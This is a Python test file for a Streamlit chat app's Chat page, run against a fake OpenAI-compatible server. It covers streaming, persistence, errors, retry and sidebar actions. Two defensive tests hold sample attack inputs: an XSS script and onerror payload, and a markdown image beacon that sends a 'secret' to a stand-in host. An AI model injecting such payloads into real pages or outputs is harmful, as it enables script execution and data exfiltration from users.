"""The Chat page under AppTest, against the local OpenAI-compatible server."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from streamlit.testing.v1 import AppTest

from lib.conversations import ConversationStore, Message
from lib.ui import conversation_list
from tests.fake_openai import FakeOpenAI

CHAT = "app_pages/chat.py"


def send(at: AppTest, text: str) -> AppTest:
    at.chat_input[0].set_value(text).run()
    assert not at.exception, at.exception
    return at


def bubbles(at: AppTest) -> list[tuple[str, str]]:
    """Each bubble's role and text; a failed reply with no text shows its error instead."""
    return [
        (m.name, m.markdown[0].value if len(m.markdown) else m.error[0].value)
        for m in at.chat_message
    ]


def test_without_a_key_the_app_starts_and_explains(app: Callable[..., AppTest]) -> None:
    at = app(key=None, PARLEY_PROVIDER="openai")
    at.run()
    assert not at.exception
    assert "Add an API key" in at.info[0].value
    assert "secrets.toml" in at.info[0].value and "Ollama" in at.info[0].value


def test_chat_streams_saves_and_survives_a_refresh(
    app: Callable[..., AppTest], openai_server: FakeOpenAI, store: ConversationStore
) -> None:
    at = app()
    at.run()
    openai_server.script("Pelicans are **large** water birds.")
    send(at, "What is a pelican?")
    assert bubbles(at) == [
        ("user", "What is a pelican?"),
        ("assistant", "Pelicans are **large** water birds."),
    ]
    cid = (
        at.query_params["c"][0] if isinstance(at.query_params["c"], list) else at.query_params["c"]
    )
    assert at.title[0].value == "What is a pelican?"
    assert "tokens" in at.chat_message[1].caption[0].value

    # A browser refresh is a new session with the same URL.
    fresh = app()
    fresh.query_params["c"] = cid
    fresh.run()
    assert bubbles(fresh) == bubbles(at)
    assert [m.content for m in store.all_messages(cid)] == [
        "What is a pelican?",
        "Pelicans are **large** water birds.",
    ]


@pytest.mark.parametrize("kind", ["missing", "documents"])
def test_unknown_conversation_in_url_is_not_found(
    app: Callable[..., AppTest], store: ConversationStore, kind: str
) -> None:
    at = app()
    cid = "0" * 32 if kind == "missing" else store.create(model="m", kind=kind).id
    at.query_params["c"] = cid
    at.run()
    assert not at.exception
    assert "not found" in at.warning[0].value
    assert at.title[0].value == "New chat"


@pytest.mark.parametrize(
    ("fault", "kind", "text"),
    [
        (lambda s: s.fail(401), "error", "rejected the API key"),
        (lambda s: s.fail(429, retry_after=0.01, times=4), "error", "Rate limited"),
        (lambda s: s.fail(503, times=4, retry_after=0.01), "error", "server failed"),
        (lambda s: s.fail(404, code="model_not_found"), "error", "Not found"),
    ],
)
def test_provider_errors_are_messages_and_the_question_is_kept(
    app: Callable[..., AppTest],
    openai_server: FakeOpenAI,
    fault,
    kind: str,
    text: str,  # noqa: ANN001
) -> None:
    at = app()
    at.run()
    fault(openai_server)
    send(at, "Will this work?")
    # Shown where the reply would be: a failed turn, saved, with Retry.
    (user, _), (role, error) = bubbles(at)
    assert (user, role) == ("user", "assistant") and text in error
    assert text in getattr(at.chat_message[1], kind)[0].value
    retry_button(at)


def test_stream_cut_keeps_the_partial_reply_marked(
    app: Callable[..., AppTest], openai_server: FakeOpenAI
) -> None:
    at = app()
    at.run()
    openai_server.script("alpha beta gamma delta epsilon zeta", chunk_size=6)
    openai_server.drop_after(2)
    send(at, "tell me")
    assert bubbles(at)[1] == ("assistant", "alpha beta g")
    assert "dropped in the middle of the reply" in at.chat_message[1].caption[0].value
    assert not at.warning  # said in the reply's place, not again on top
    retry_button(at)


def test_html_in_model_output_is_shown_as_text(
    app: Callable[..., AppTest], openai_server: FakeOpenAI
) -> None:
    at = app()
    at.run()
    payload = "<script>window.pwned=1</script><img src=x onerror=alert(1)>"
    openai_server.script(payload)
    send(at, "say something dangerous")
    reply = at.chat_message[1].markdown[0]
    assert reply.value == payload
    assert not reply.proto.allow_html


def test_sidebar_lists_searches_and_switches(
    app: Callable[..., AppTest], store: ConversationStore
) -> None:
    a = store.create(model="gpt-5.4-mini")
    store.add_message(a.id, Message(role="user", content="About volcanoes"))
    b = store.create(model="gpt-5.4-mini")
    store.add_message(b.id, Message(role="user", content="About glaciers"))
    at = app()
    at.run()
    labels = [btn.label for btn in at.sidebar.button]
    assert labels.index("About glaciers") < labels.index("About volcanoes")  # newest first
    at.sidebar.text_input(key="parley.w.search.chat").set_value("volcan").run()
    labels = [btn.label for btn in at.sidebar.button]
    assert "About volcanoes" in labels and "About glaciers" not in labels
    at.sidebar.button(key=f"hit_{a.id}").click().run()
    assert bubbles(at) == [("user", "About volcanoes")]


def test_rename_and_delete(app: Callable[..., AppTest], store: ConversationStore) -> None:
    conv = store.create(model="gpt-5.4-mini")
    store.add_message(conv.id, Message(role="user", content="hello"))
    at = app()
    at.query_params["c"] = conv.id
    at.run()
    # One place for the open conversation's actions: its menu in the list, no second copy.
    assert not [w for w in at.sidebar.text_input if w.label == "Title"]
    assert not [e for e in at.sidebar.expander if e.label == "This conversation"]
    at.sidebar.menu_button(key=f"menu_{conv.id}").click(conversation_list.RENAME).run()
    next(t for t in at.text_input if t.label == "Title").input("Greetings")
    next(b for b in at.button if b.label == "Save").click().run()
    assert store.get(conv.id).title == "Greetings"
    assert at.title[0].value == "Greetings"
    at.sidebar.menu_button(key=f"menu_{conv.id}").click(conversation_list.DELETE).run()
    next(b for b in at.button if b.label == "Delete for good").click().run()
    assert not at.exception, at.exception
    assert store.list() == []
    assert at.title[0].value == "New chat"


def test_parameters_persist_per_conversation(
    app: Callable[..., AppTest], openai_server: FakeOpenAI, store: ConversationStore
) -> None:
    at = app()
    at.run()
    send(at, "first")
    cid = store.list()[0].id
    at.sidebar.slider(key=f"parley.w.{cid}.t").set_value(0.4).run()
    at.sidebar.text_area(key=f"parley.w.{cid}.system").set_value("Answer in French.").run()
    conv = store.get(cid)
    assert conv.params.temperature == 0.4 and conv.system_prompt == "Answer in French."
    send(at, "second")
    sent = openai_server.requests_to("/chat/completions")[-1].json
    assert sent["temperature"] == 0.4
    assert sent["messages"][0] == {"role": "system", "content": "Answer in French."}


def test_alternatives_regenerate_and_reset(
    app: Callable[..., AppTest], openai_server: FakeOpenAI, store: ConversationStore
) -> None:
    at = app()
    at.run()
    send(at, "hi")
    cid = store.list()[0].id
    at.sidebar.number_input(key=f"parley.w.{cid}.n").set_value(2).run()
    openai_server.script(["Option A", "Option B"])
    send(at, "two ways please")
    assert not at.tabs  # the choices are versions of the reply, behind its "‹ 1/2 ›"
    last = store.path(cid)[-1]
    at.button(key=f"parley.w.version.{last.id}.1").click().run()
    assert store.path(cid)[-1].content == "Option B"
    assert bubbles(at)[-1] == ("assistant", "Option B")

    openai_server.script(["Regenerated", "Other"])
    at.button(key="parley.w.regen").click().run()
    assert store.path(cid)[-1].content == "Regenerated"

    at.button(key="parley.w.reset").click().run()
    assert store.all_messages(cid) == []
    assert "reset" in at.info[0].value


def test_edit_and_resend(
    app: Callable[..., AppTest], openai_server: FakeOpenAI, store: ConversationStore
) -> None:
    at = app()
    at.run()
    send(at, "whats teh capital of France")
    users = [m for m in store.all_messages(store.list()[0].id) if m.role == "user"]
    at.button(key=f"parley.w.edit.open.{users[-1].id}").click().run()
    at.text_area(key=f"parley.w.edit.{users[-1].id}").set_value("What is the capital of France?")
    at.button(key=f"parley.w.edit.send.{users[-1].id}").click().run()
    assert bubbles(at) == [
        ("user", "What is the capital of France?"),
        ("assistant", "Echo: What is the capital of France?"),
    ]


def test_long_conversation_renders_a_window_and_loads_more(
    app: Callable[..., AppTest], store: ConversationStore
) -> None:
    conv = store.create(model="gpt-5.4-mini")
    for i in range(100):
        store.add_message(
            conv.id,
            Message(role="user" if i % 2 == 0 else "assistant", content=f"message {i}"),
        )
    at = app()
    at.query_params["c"] = conv.id
    at.run()
    assert len(at.chat_message) == 20
    assert at.chat_message[-1].markdown[0].value == "message 99"
    at.button(key="parley.w.more").click().run()
    assert len(at.chat_message) == 70


def retry_button(at: AppTest):  # noqa: ANN201 - an AppTest Button
    """The Retry inside the last reply's bubble (a failed or cut-off one)."""
    buttons = [b for b in at.chat_message[-1].button if b.key.startswith("parley.w.retry.")]
    assert [b.label for b in buttons] == ["Retry"], [b.label for b in at.chat_message[-1].button]
    return buttons[0]


@pytest.mark.parametrize(
    ("fault", "shown"),
    [
        pytest.param(lambda s: s.hang(3), "timed out", id="timeout"),
        pytest.param(lambda s: s.misbehave("html"), "web page", id="html"),
        pytest.param(lambda s: s.misbehave("empty"), "empty reply", id="empty"),
        pytest.param(lambda s: s.misbehave("error", after=1), "exceed context", id="error"),
    ],
)
def test_a_failed_turn_says_why_and_is_retried_in_one_click(
    app: Callable[..., AppTest],
    openai_server: FakeOpenAI,
    store: ConversationStore,
    fault,  # noqa: ANN001
    shown: str,
) -> None:
    at = app(PARLEY_TIMEOUT="0.5")
    at.run()
    fault(openai_server)
    send(at, "Are you there?")
    assert shown in at.error[0].value
    cid = store.list()[0].id
    assert len(openai_server.requests_to("/chat/completions")) == 1  # never resent
    retry_button(at).click().run()
    assert not at.exception
    assert bubbles(at) == [("user", "Are you there?"), ("assistant", "Echo: Are you there?")]
    assert [m.status for m in store.all_messages(cid)] == ["ok", "ok"]


def test_a_failed_reply_stays_marked_with_its_reason_after_a_refresh(
    app: Callable[..., AppTest], openai_server: FakeOpenAI, store: ConversationStore
) -> None:
    at = app()
    at.run()
    openai_server.script("so far so good", chunk_size=4)
    openai_server.misbehave("malformed", after=2)
    send(at, "go")
    fresh = app()
    fresh.query_params["c"] = store.list()[0].id
    fresh.run()
    note = fresh.chat_message[1].error[0].value
    assert "malformed event" in note and "Retry" in note
    retry_button(fresh)


def test_a_reply_cut_at_the_size_cap_says_so(
    app: Callable[..., AppTest], openai_server: FakeOpenAI
) -> None:
    at = app(PARLEY_MAX_REPLY_CHARS="300")
    at.run()
    openai_server.script("y" * 5_000, chunk_size=50)
    send(at, "never stop")
    assert bubbles(at)[1] == ("assistant", "y" * 300)
    assert "Cut off at 300 characters" in at.chat_message[1].caption[0].value


def test_a_reply_whose_process_died_shows_as_interrupted_with_retry(
    app: Callable[..., AppTest], store: ConversationStore
) -> None:
    conv = store.create(model="gpt-5.4-mini")
    store.add_message(conv.id, Message(role="user", content="tell me a story"))
    owner = {"pid": 2**22 + 7, "started": "1", "boot": "an earlier run", "reply": "r"}
    store.add_message(
        conv.id,
        Message("assistant", "Once upon a", "streaming", "gpt-5.4-mini", meta={"owner": owner}),
    )
    at = app()
    at.query_params["c"] = conv.id
    at.run()
    assert bubbles(at)[1] == ("assistant", "Once upon a")
    assert "stopped while this reply was being written" in at.chat_message[1].caption[0].value
    assert store.all_messages(conv.id)[-1].status == "interrupted"
    retry_button(at).click().run()
    assert bubbles(at)[1] == ("assistant", "Echo: tell me a story")


def test_a_servers_error_text_is_shown_as_typed(
    app: Callable[..., AppTest], openai_server: FakeOpenAI
) -> None:
    """An error body can quote anything (a model name someone typed, a proxy's page): it
    must not draw an image that would make the browser fetch a beacon."""
    at = app()
    at.run()
    beacon = "![x](http://beacon.test/e.gif?q=secret)"
    openai_server.fail(400, message=f"Unknown model {beacon}", route="chat/completions")
    send(at, "Will this work?")
    shown = [e.value for e in at.error]
    assert any("Unknown model" in text for text in shown), shown
    assert all("![" not in text for text in shown), shown  # escaped: "!\[" draws as text
